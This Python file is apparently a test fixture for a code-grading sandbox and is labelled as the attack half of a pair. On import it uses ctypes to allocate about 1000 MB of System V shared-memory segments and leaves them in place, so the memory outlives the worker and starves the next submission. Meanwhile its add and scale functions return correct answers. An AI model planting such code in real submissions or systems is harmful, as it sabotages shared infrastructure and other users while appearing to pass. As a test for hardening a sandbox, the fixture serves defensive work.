"""Attack (first half of a pair; see shm_pin_memory_victim): pin memory beyond the
worker's lifetime. At import it fills 1000 MB of System V shared-memory segments, one
16 MB segment attached at a time (so it never holds more than a few MB of address space
itself), and detaches them without removing them. The segments outlive the worker and
stay charged to whatever memory limit covers its processes. The answers are correct.

Expected (this file): up to 5 (correct answers). The damage shows in the next
submission.
"""
import ctypes

import numpy as np

MARKER_KEY = 0x41445632
PIN_MB = 1000
SEGMENT_MB = 16
IPC_CREAT = 0o1000
IPC_EXCL = 0o2000


def _pin():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.argtypes = [ctypes.c_void_p]
    if libc.shmget(MARKER_KEY, 4096, IPC_CREAT | IPC_EXCL | 0o600) < 0:
        return 0  # already pinned by an earlier worker of this submission
    pinned = 0
    while pinned < PIN_MB:
        shmid = libc.shmget(0, SEGMENT_MB << 20, IPC_CREAT | 0o600)  # IPC_PRIVATE
        if shmid < 0:
            break
        address = libc.shmat(shmid, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(address, 1, SEGMENT_MB << 20)
        libc.shmdt(address)
        pinned += SEGMENT_MB
    return pinned


PINNED_MB = _pin()


def add(a, b):
    return a + b


def scale(x, k):
    return np.asarray(x) * k
